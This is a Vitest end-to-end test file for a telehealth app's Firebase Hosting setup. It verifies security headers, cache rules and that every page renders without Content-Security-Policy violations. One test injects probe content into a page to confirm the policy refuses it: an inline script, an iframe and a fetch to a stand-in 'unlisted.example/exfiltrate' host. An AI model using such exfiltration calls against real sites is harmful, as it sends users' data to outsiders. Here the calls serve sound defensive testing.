/**
 * The production build as Firebase Hosting serves it: the Hosting emulator with firebase.json's headers. Every
 * route and asset carries the security headers with the right caching, and every page of the app renders in
 * Chromium without a single Content-Security-Policy violation (useBrowser fails a test on any; see
 * support/deployedPageChecks.ts).
 */
import { readFileSync } from 'node:fs'
import { getApps, initializeApp } from 'firebase-admin/app'
import { getAuth } from 'firebase-admin/auth'
import { describe, expect as vexpect, inject, it, vi } from 'vitest'
import { ALLOWED_STYLE_ATTRIBUTES, emulatorOrigins, HASHED_ASSETS, IMMUTABLE, NO_CACHE, withEmulatorOrigins } from '../../scripts/lib/hostingHeaders'
import { DEMO_PASSWORD } from '../../scripts/seed/demoPractice'
import { signIn, signIntoConsole, useBrowser } from './support/browser'
import { bookVideoVisit } from './support/visitFixture'

const baseUrl = inject('baseUrl')
const seed = inject('seed')

const committed = JSON.parse(readFileSync(new URL('../../firebase.json', import.meta.url), 'utf8')) as {
  hosting: { headers: { source: string; headers: { key: string; value: string }[] }[] }
}
const everyRoute = committed.hosting.headers.find((rule) => rule.source === '**')!.headers

/** "127.0.0.1:9099" → 9099: where this run's build was told the emulators are. */
const portOf = (hostAndPort: string | undefined) => Number(hostAndPort!.split(':').pop())
const loopbackOrigins = emulatorOrigins({
  auth: portOf(process.env.VITE_AUTH_EMULATOR_HOST),
  firestore: portOf(process.env.VITE_FIRESTORE_EMULATOR_HOST),
  functions: portOf(process.env.VITE_FUNCTIONS_EMULATOR_HOST),
  fakeTwilio: portOf(process.env.FAKE_TWILIO_URL),
})

/** The headers firebase.json gives every route, as served to this emulator build (loopback origins added to the CSP). */
function expectedSecurityHeaders(): Record<string, string> {
  return Object.fromEntries(
    everyRoute.map(({ key, value }) => [
      key.toLowerCase(),
      key === 'Content-Security-Policy' ? withEmulatorOrigins(value, loopbackOrigins) : value,
    ]),
  )
}

async function headersOf(path: string): Promise<{ status: number; type: string; headers: Record<string, string> }> {
  const response = await fetch(new URL(path, baseUrl))
  await response.arrayBuffer()
  return { status: response.status, type: response.headers.get('content-type') ?? '', headers: Object.fromEntries(response.headers) }
}

describe('hosting headers, as served', () => {
  it('gives every route of the app the security headers and no-cache, and serves it the app', async () => {
    for (const path of ['/', '/index.html', '/schedule', '/join/AAAAAAAAAAAAAAAAAAAAAA', '/unsubscribe?token=x', '/no/such/page']) {
      const { status, type, headers } = await headersOf(path)
      vexpect(status, path).toBe(200)
      vexpect(type, path).toContain('text/html')
      vexpect(headers, path).toMatchObject(expectedSecurityHeaders())
      vexpect(headers['cache-control'], path).toBe(NO_CACHE)
    }
  })

  it('serves hashed assets immutable for a year, with the security headers', async () => {
    const index = await (await fetch(baseUrl)).text()
    const assets = [...index.matchAll(/(?:src|href)="(\/assets\/[^"]+)"/g)].map((m) => m[1]!)
    vexpect(assets.length).toBeGreaterThanOrEqual(2)
    for (const path of assets) {
      const { status, headers } = await headersOf(path)
      vexpect(status, path).toBe(200)
      vexpect(headers, path).toMatchObject(expectedSecurityHeaders())
      vexpect(headers['cache-control'], path).toBe(IMMUTABLE)
    }
  })

  it('answers a missing asset with 404, not with the app cached for a year', async () => {
    const { status, headers } = await headersOf(`${HASHED_ASSETS.replace('**', '')}gone-0000aaaa.js`)
    vexpect(status).toBe(404)
    vexpect(headers).toMatchObject(expectedSecurityHeaders())
  })

  it('serves the deployed policy with only the loopback emulator origins added', async () => {
    const deployed = everyRoute.find((h) => h.key === 'Content-Security-Policy')!.value
    const { headers } = await headersOf('/')
    vexpect(headers['content-security-policy']).toBe(withEmulatorOrigins(deployed, loopbackOrigins))
    vexpect(loopbackOrigins.every((origin) => origin.startsWith('http://127.0.0.1:'))).toBe(true)
    vexpect(deployed).not.toContain('127.0.0.1')
  })
})

describe('every page under the deployed policy', () => {
  const browser = useBrowser({ media: true })

  it('enforces the policy, and the watch reports what it refused', async () => {
    const { context, page } = await browser.newPage('policy enforced')
    await page.goto('/signin')
    await page.getByRole('heading', { name: 'Sign in' }).waitFor()
    await page.evaluate((agoraProbeStyle) => {
      // Agora's resolution probe sets this exact style attribute: admitted by hash. Any other is refused.
      const probe = document.createElement('video')
      probe.id = 'agora-probe'
      probe.setAttribute('style', agoraProbeStyle)
      const other = document.createElement('div')
      other.id = 'other-style'
      other.setAttribute('style', 'position: fixed')
      document.body.append(probe, other)
      const inline = document.createElement('script')
      inline.textContent = 'window.inlineRan = true'
      document.body.append(inline)
      void fetch('https://unlisted.example/exfiltrate').catch(() => undefined)
      const framed = document.createElement('iframe')
      framed.src = 'https://unlisted.example/'
      document.body.append(framed)
    }, ALLOWED_STYLE_ATTRIBUTES[0]!.style)
    const refused: string[] = []
    await vi.waitFor(
      () => {
        refused.push(...browser.takeProblems())
        for (const directive of ['script-src', 'connect-src', 'frame-src']) vexpect(refused.join('\n')).toContain(directive)
      },
      { timeout: 15_000, interval: 250 },
    )
    const position = (id: string) => page.evaluate((el) => getComputedStyle(document.getElementById(el)!).position, id)
    vexpect(await position('agora-probe')).toBe('fixed')
    vexpect(await page.evaluate(() => (window as { inlineRan?: boolean }).inlineRan)).toBeUndefined()
    // Each refusal is reported twice (the page's event and Chromium's console): drop the late copies with the page.
    await context.close()
    browser.takeProblems()
  })

  it('renders the public pages without a CSP violation', async () => {
    const { page } = await browser.newPage('public pages')
    await page.goto('/signin')
    await page.getByRole('heading', { name: 'Sign in' }).waitFor()
    await page.goto('/unsubscribe')
    await page.getByRole('heading', { name: 'Reminder emails' }).waitFor()
    await page.goto('/no/such/page')
    await page.getByRole('heading', { name: 'Page not found' }).waitFor()
    await page.goto('/join/AAAAAAAAAAAAAAAAAAAAAA')
    await page.locator('[data-problem="not-found"]').waitFor()
  })

  it("renders every console page for the owner without a CSP violation", async () => {
    const visit = await bookVideoVisit({ practitionerUid: 'demo-dr-chen', patientIndexes: [7], startsInMinutes: 30 })
    try {
      const { page } = await browser.newPage('console pages')
      const owner = seed.members.find((m) => m.role === 'owner')!
      await signIntoConsole(page, owner.email, owner.password)
      const pages: [string, string][] = [
        ['/calendar', 'Calendar'],
        ['/calendar/appointments/new', 'New appointment'],
        [`/calendar/appointments/${visit.appointmentId}`, 'Calendar'],
        ['/patients', 'Patients'],
        ['/patients/new', 'New patient'],
        ['/templates', 'Reminder templates'],
        ['/members', 'Members'],
        [`/visits/${visit.appointmentId}`, 'Video visit'],
        ['/schedule', "Today's schedule"],
      ]
      for (const [path, heading] of pages) {
        await page.goto(path)
        await page.getByRole('heading', { name: heading, exact: true }).first().waitFor()
      }
    } finally {
      await visit.remove()
    }
  })

  it('renders the no-practice page for an account outside any practice without a CSP violation', async () => {
    if (!getApps().length) initializeApp({ projectId: process.env.GCLOUD_PROJECT ?? 'demo-telehealth' })
    const email = `no-practice-${Date.now()}@example.test`
    const user = await getAuth().createUser({ email, password: DEMO_PASSWORD })
    try {
      const { page } = await browser.newPage('no practice page')
      await signIn(page, email, DEMO_PASSWORD)
      await page.getByRole('heading', { name: "Your account isn't part of a practice yet" }).waitFor()
    } finally {
      await getAuth().deleteUser(user.uid)
    }
  })
})
